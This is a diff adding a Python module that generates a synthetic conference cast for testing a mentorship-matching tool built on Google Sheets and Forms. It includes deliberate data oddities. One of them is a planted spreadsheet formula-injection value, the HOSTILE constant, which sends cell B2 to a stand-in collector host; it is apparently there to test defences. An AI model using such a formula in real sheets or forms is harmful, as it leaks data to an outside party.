@@ -1,0 +1,262 @@
+"""The cast: a made-up conference with the shape of a real one, always the same for the same seed and number.
+
+Of the people in the programme about 45 % sign up as mentors, 20 % come virtually, 25 % have not answered
+the form. Among them are colleagues, somebody in both roles, somebody who answered twice, hand-typed names,
+contradictions between sign-up and form, a hostile answer, and addresses with odd capitals and blanks.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass, replace
+from datetime import UTC, datetime, timedelta
+from random import Random
+from typing import Any
+
+from mentorship_gsheets.rehearsal import cast_words as words
+
+SIGN_UP_HEADER = ("Name", "Email", "Ticket", "Mentorship programme?")
+OPENED = datetime(2026, 6, 8, 9, 0, tzinfo=UTC)
+"""When the form went out."""
+
+HOSTILE = '=IMPORTXML("https://collector.example.net/?who="&B2, "//a")'
+
+
+@dataclass(frozen=True, slots=True)
+class Person:
+    """One person of the conference. ``answers`` maps the form's columns (see :data:`QUESTIONS`) to the
+    texts given.
+    """
+
+    name: str
+    email: str
+    ticket: str
+    sign_up: str
+    answers: Mapping[str, tuple[str, ...]]
+    answered: bool
+    listed: bool = True
+
+
+@dataclass(frozen=True, slots=True)
+class Reply:
+    """One submission of the form."""
+
+    id: str
+    email: str
+    created: datetime
+    submitted: datetime
+    answers: Mapping[str, tuple[str, ...]]
+
+
+@dataclass(frozen=True, slots=True)
+class Cast:
+    """Everybody, the rows of the sign-up export under :data:`SIGN_UP_HEADER`, and the submissions by time."""
+
+    people: tuple[Person, ...]
+    sign_ups: tuple[tuple[str, str, str, str], ...]
+    replies: tuple[Reply, ...]
+
+
+@dataclass(frozen=True, slots=True)
+class Question:
+    """A question of the form: ``kind`` is text, paragraph, radio, checkbox or dropdown; ``id`` is Google's."""
+
+    key: str
+    id: str
+    title: str
+    kind: str
+    options: tuple[str, ...] = ()
+    other: bool = False
+    required: bool = False
+
+
+ROLES = ("As a mentor", "As a mentee", "As both: mentor and mentee")
+ATTENDANCE = ("In person", "Virtually")
+FIELDS = tuple(field for block in words.BLOCKS for field in block)
+
+QUESTIONS = (
+    Question("name", "1a7c03e1", "What is your full name?", "text", required=True),
+    Question("role", "2b4d11f2", "How would you like to take part?", "radio", ROLES, required=True),
+    Question("attendance", "3c2e27a3", "How will you attend the conference?", "radio", ATTENDANCE, required=True),
+    Question("fields", "4d9f35b4", "Which fields do you work in? Tick all that apply.", "checkbox", FIELDS, other=True),
+    Question(
+        "sector",
+        "5e8046c5",
+        "Which sector do you work in?",
+        "dropdown",
+        ("Academia", "Industry", "Government lab", "Non-profit", "Student", "Between jobs"),
+    ),
+    Question("topics", "6f7157d6", "What would you like to talk about?", "checkbox", words.TOPICS, other=True),
+    Question("affiliation", "70626ae7", "Where do you work or study?", "text"),
+    Question("time_zone", "815379f8", "Your time zone", "dropdown", words.ZONES),
+    Question("capacity", "92448b09", "Mentors: how many mentees could you take on?", "radio", ("1", "2", "3")),
+    Question(
+        "languages", "a3359c1a", "Which languages do you speak comfortably?", "checkbox", words.LANGUAGES, other=True
+    ),
+    Question("notes", "b426ad2b", "Anything we should know when we look for your match?", "paragraph"),
+)
+
+
+def cast(number: int = 150, seed: int = 2026) -> Cast:
+    """A conference with ``number`` people in the programme (at least 20) and a few who said no."""
+    if number < 20:
+        raise ValueError("a cast needs at least 20 people")
+    random = Random(seed)  # noqa: S311 - make-believe, not cryptography
+    people = _with_oddities([_person(random, place, number) for place in range(number)], random)
+    replies = _replies(people, random)
+    bystanders = [_bystander(random, place) for place in range(max(3, number // 12))]
+    rows = [_sign_up(random, person) for person in people if person.listed]
+    rows += [(person.name, person.email, person.ticket, "No") for person in bystanders]
+    random.shuffle(rows)
+    return Cast(tuple(people), tuple(rows), tuple(replies))
+
+
+def _person(random: Random, place: int, number: int) -> Person:
+    name, local = _name(random, place)
+    # An institution sends a handful of people, however large the conference is.
+    rounds = max(1, number // 90)
+    choice = random.randrange(len(words.INSTITUTIONS) * rounds)
+    affiliation, domain, sector = words.INSTITUTIONS[choice % len(words.INSTITUTIONS)]
+    branch = choice // len(words.INSTITUTIONS)
+    if branch:
+        affiliation, domain = f"{affiliation}, campus {branch + 1}", f"campus{branch + 1}.{domain}"
+    # Some write from home, where the address says nothing about the institution.
+    home = random.random() < 0.3
+    domain = f"home{place}.example.net" if home else random.choice(words.DEPARTMENTS) + domain
+    # Exact shares rather than drawn ones: whoever reads the summary should find the numbers promised.
+    mentor = place * 9 % 20 < 9
+    virtual = place * 7 % 5 == 0
+    answers = {
+        "name": (name,),
+        "role": (ROLES[0] if mentor else ROLES[1],),
+        "attendance": (ATTENDANCE[virtual],),
+        **_interests(random, mentor=mentor),
+        "sector": ("Student" if not mentor and random.random() < 0.4 else sector,),
+        "affiliation": (affiliation,),
+        "time_zone": (random.choice(words.ZONES),),
+        "capacity": (random.choices(("1", "2", "3"), (60, 28, 12))[0],) if mentor else (),
+        "languages": _languages(random),
+    }
+    sign_up = "Yes, as a mentor" if mentor else "Yes, as a mentee"
+    return Person(
+        name, f"{local}@{domain}", "Virtual" if virtual else "In person", sign_up, answers, answered=place % 4 != 3
+    )
+
+
+def _name(random: Random, place: int) -> tuple[str, str]:
+    """A name and the local part of an address, both unlike those of the other places."""
+    if place % 15 == 7 and place // 15 < len(words.WHOLE):
+        return words.WHOLE[place // 15]
+    # Every pairing of the two lists comes up once before any comes again.
+    total = len(words.GIVEN) * len(words.FAMILY)
+    turn, rest = divmod(place * 1009 % total + total * (place // total), total)
+    (given, first), (family, last) = words.GIVEN[rest % len(words.GIVEN)], words.FAMILY[rest // len(words.GIVEN)]
+    style = random.choice((f"{first}.{last}", f"{first[0]}{last}{place}", f"{first}_{last}"))
+    return (f"{given} {family}" + (f" {turn + 1}" if turn else "")), style + (str(turn) if turn else "")
+
+
+def _interests(random: Random, *, mentor: bool) -> dict[str, tuple[str, ...]]:
+    first = random.choices(range(len(words.BLOCKS)), words.SHARES)[0]
+    main = random.choice(words.BLOCKS[first])
+    fields = {main}
+    for _ in range(random.choices((0, 1, 2, 3), (45, 30, 17, 8))[0]):
+        block = first if random.random() < 0.5 else random.randrange(len(words.BLOCKS))
+        fields.add(random.choice(words.BLOCKS[block]))
+    ticked = [field for field in FIELDS if field in fields]
+    if random.random() < 0.06:
+        ticked.append(random.choice(words.OTHER_FIELDS))
+    topics = random.sample(words.TOPICS, random.choice((1, 2, 2, 3)))
+    note = random.choice(words.MENTOR_NOTES if mentor else words.MENTEE_NOTES).format(work=words.WORK[main])
+    return {
+        "fields": tuple(ticked),
+        "topics": tuple(topic for topic in words.TOPICS if topic in topics),
+        "notes": (note,) if note else (),
+    }
+
+
+def _languages(random: Random) -> tuple[str, ...]:
+    extra = random.choice((None, None, *words.LANGUAGES[1:]))
+    return ("English",) if extra is None else ("English", extra)
+
+
+def _with_oddities(people: list[Person], random: Random) -> list[Person]:
+    """What no conference is spared, on people at fixed places who have answered."""
+    people[0] = _answering(people[0], role=(ROLES[2],))
+    people[1] = _answering(people[1], notes=(HOSTILE,))
+    people[2] = replace(people[2], email=_odd(people[2].email))
+    # At the door they gave the name on the passport, in the form the one they go by.
+    people[4] = _answering(people[4], name=(people[4].name.lower().replace(" ", "  "),))
+    people[5] = _answering(people[5], name=(", ".join(reversed(people[5].name.upper().split(" ", 1))),))
+    for place in (6, 13):
+        opposite = ROLES[1] if people[place].answers["role"][0] == ROLES[0] else ROLES[0]
+        people[place] = _answering(people[place], role=(opposite,), capacity=("1",) if opposite == ROLES[0] else ())
+    # Somebody who ticked nothing, somebody without a capacity, somebody whose ticket changed.
+    people[8] = _answering(people[8], fields=(), topics=())
+    mentors = [place for place, person in enumerate(people) if person.answers["capacity"] and person.answered]
+    people[mentors[-1]] = _answering(people[mentors[-1]], capacity=())
+    people[9] = _answering(people[9], attendance=(ATTENDANCE[people[9].ticket == "In person"],))
+    # Tickets bought after the export.
+    late = random.choice([place for place in range(10, len(people)) if people[place].answered])
+    people[late] = replace(people[late], listed=False)
+    return people
+
+
+def _answering(person: Person, **answers: tuple[str, ...]) -> Person:
+    return replace(person, answered=True, answers={**person.answers, **answers})
+
+
+def _odd(email: str) -> str:
+    local, _, domain = email.partition("@")
+    return f" {local.title()}@{domain.upper()}  "
+
+
+def _sign_up(random: Random, person: Person) -> tuple[str, str, str, str]:
+    email = person.email
+    if random.random() < 0.05:
+        email = email.title()
+    return person.name, email, person.ticket, person.sign_up
+
+
+def _bystander(random: Random, place: int) -> Person:
+    name, local = _name(random, 1500 - place)
+    return Person(
+        name, f"{local}@guests.example.com", random.choice(("In person", "Virtual")), "No", {}, answered=False
+    )
+
+
+def _replies(people: list[Person], random: Random) -> list[Reply]:
+    replies = [
+        _reply(random, person.email, person.answers, random.random() * 12) for person in people if person.answered
+    ]
+    # Answered again, from a telephone that likes capitals: another capacity, one more field.
+    twice = next(person for person in people[10:] if person.answered and person.answers["capacity"] == ("1",))
+    again = {**twice.answers, "capacity": ("2",), "fields": (*twice.answers["fields"], "Citizen science")}
+    replies.append(_reply(random, twice.email.capitalize(), again, 13))
+    return sorted(replies, key=lambda reply: reply.submitted)
+
+
+def _reply(random: Random, email: str, answers: Mapping[str, tuple[str, ...]], days: float) -> Reply:
+    moment = OPENED + timedelta(days=days)
+    # Some came back to change their answer: same response, later time.
+    edited = moment + timedelta(hours=5) if random.random() < 0.04 else moment
+    id = "ACYD" + random.randbytes(24).hex()
+    return Reply(id, email.strip(), moment, edited, answers)
+
+
+def form_items() -> list[dict[str, Any]]:
+    """The items of the form, as the Forms API shows them."""
+    return [_item(place, question) for place, question in enumerate(QUESTIONS)]
+
+
+def _item(place: int, question: Question) -> dict[str, Any]:
+    asked: dict[str, Any] = {"questionId": question.id}
+    if question.required:
+        asked["required"] = True
+    if question.kind in {"text", "paragraph"}:
+        asked["textQuestion"] = {"paragraph": True} if question.kind == "paragraph" else {}
+    else:
+        kind = {"radio": "RADIO", "checkbox": "CHECKBOX", "dropdown": "DROP_DOWN"}[question.kind]
+        options: list[dict[str, Any]] = [{"value": option} for option in question.options]
+        options += [{"isOther": True}] if question.other else []
+        asked["choiceQuestion"] = {"type": kind, "options": options}
+    return {"itemId": f"{place + 1:08x}", "title": question.title, "questionItem": {"question": asked}}
